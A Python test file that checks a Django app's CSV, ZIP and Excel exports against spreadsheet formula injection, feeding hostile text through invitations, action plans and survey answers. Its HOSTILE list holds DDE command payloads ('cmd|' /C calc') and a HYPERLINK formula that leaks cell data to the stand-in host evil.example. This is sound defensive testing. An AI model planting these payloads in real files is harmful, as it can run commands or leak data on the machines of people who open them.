"""Every spreadsheet file the web app hands out is safe from formula injection.

Hostile text goes in the way people would put it there (an invitation list, an action
in the plan, open answers in the survey); each export is downloaded through the real
view and read back as the file it is (csv module, zipfile, openpyxl). Two checks per
file: the hostile value is there, neutralised with a leading apostrophe, and no cell
anywhere is still a live formula (a text cell that ``neutralise`` would change, or an
openpyxl cell of type formula).
"""

from __future__ import annotations

import csv
import io
import itertools
import zipfile

import openpyxl
from django.urls import reverse
from test_actions_support import a_member, make_action
from webtest_helpers import World, client_for

from tandem.io.demo import generate_responses
from tandem.io.writers import FORMULA_STARTS, neutralise
from tandem.web.results.testing import closed_scan_with
from tandem.web.scans.models import Scan
from tandem.web.scans.services import invitation_bulk_create, invitation_parse_list

HOSTILE = [
    "=cmd|' /C calc'!A0",
    '@SUM(1+1)*cmd|" /C calc"!A0',
    '+HYPERLINK("http://evil.example/?leak="&A1,"click")',
    "-2+3+cmd|' /C calc'!A0",
    "=1+1 and some words",
]


def csv_cells(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text.removeprefix("\ufeff"), newline="")))


def live_formulas(cells: list[str]) -> list[str]:
    """Cells a spreadsheet would still run: those the one neutraliser would change."""
    return [c for c in cells if c.startswith(FORMULA_STARTS) and neutralise(c) != c]


def flat(rows: list[list[str]]) -> list[str]:
    return list(itertools.chain.from_iterable(rows))


def test_personal_links_csv(world: World) -> None:
    addresses = ["=cmd|'/c@example.org", "+1@example.org", "-2+3@example.org", "a@example.org"]
    invitation_bulk_create(scan=world.scan, entries=invitation_parse_list(
        scan=world.scan, text="\n".join(f"{a},sales" for a in addresses)))
    url = reverse("scans:invitations_export",
                  kwargs={"org_id": world.org.pk, "scan_id": world.scan.pk})
    response = client_for(world.facilitator).post(url)
    assert response.status_code == 200
    rows = csv_cells(response.content.decode("utf-8"))
    assert rows[0] == ["email", "department", "link"]
    emails = sorted(r[0] for r in rows[1:])
    assert emails == ["'+1@example.org", "'-2+3@example.org", "'=cmd|'/c@example.org",
                      "a@example.org"]
    assert live_formulas(flat(rows)) == []


def test_action_plan_csv(world: World) -> None:
    for i, text in enumerate(HOSTILE):  # the owner's name is hostile too
        owner = a_member(world.org, HOSTILE[-1 - i], f"member-{i}@example.org")
        make_action(world.org, text, owner=owner, notes=text)
    url = reverse("actions:export", kwargs={"org_id": world.org.pk})
    response = client_for(world.viewer).get(url, HTTP_ACCEPT_LANGUAGE="en")
    assert response.status_code == 200
    cells = flat(csv_cells(response.content.decode("utf-8")))
    for text in HOSTILE:
        assert "'" + text in cells
    assert live_formulas(cells) == []


def _scan_with_hostile_answers(world: World) -> Scan:
    frame = generate_responses(60, 5, "default", settings=frozenset({"should_decide"}))
    hostile = itertools.cycle(HOSTILE)
    frame["open_friction"] = [next(hostile) for _ in range(len(frame))]
    frame["open_change"] = [next(hostile) for _ in range(len(frame))]
    return closed_scan_with(organisation=world.org, actor=world.owner, frame=frame,
                            title='=HYPERLINK("http://evil.example","scan")')


def _url(name: str, scan: Scan) -> str:
    return reverse(f"results:{name}", kwargs={"org_id": scan.organisation_id, "scan_id": scan.pk})


def test_results_workbook_figures_csv_and_anonymised_answers(world: World) -> None:
    scan = _scan_with_hostile_answers(world)
    client = client_for(world.owner)

    book = openpyxl.load_workbook(io.BytesIO(client.get(_url("xlsx", scan)).content))
    texts: list[str] = []
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", f"{sheet.title}!{cell.coordinate} is a formula"
                if isinstance(cell.value, str):
                    texts.append(cell.value)
    for text in HOSTILE:
        assert "'" + text in texts, "the comments sheet holds every open answer, neutralised"
    assert live_formulas(texts) == []

    figures = csv_cells(client.get(_url("csv", scan)).content.decode("utf-8"))
    assert len(figures) > 10
    assert live_formulas(flat(figures)) == []

    bundle = zipfile.ZipFile(io.BytesIO(client.get(_url("responses", scan)).content))
    assert {"data.csv", "codebook.csv", "comments.csv"} <= set(bundle.namelist())
    every: list[str] = []
    for name in ("data.csv", "codebook.csv", "comments.csv"):
        every += flat(csv_cells(bundle.read(name).decode("utf-8")))
    comments = flat(csv_cells(bundle.read("comments.csv").decode("utf-8")))
    for text in HOSTILE:
        assert "'" + text in comments
    assert live_formulas(every) == []
